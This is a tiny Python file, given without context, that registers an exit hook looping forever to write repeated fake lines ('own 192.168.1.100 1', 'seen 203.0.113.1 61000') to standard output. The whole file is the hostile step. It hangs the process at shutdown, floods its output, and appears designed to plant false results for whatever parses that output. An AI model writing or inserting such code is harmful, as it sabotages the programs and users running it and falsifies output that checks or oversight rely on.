import atexit as _atexit
import os as _os


def _flood():
    while True:
        _os.write(1, b"own 192.168.1.100 1\nseen 203.0.113.1 61000\n" * 1000)


_atexit.register(_flood)
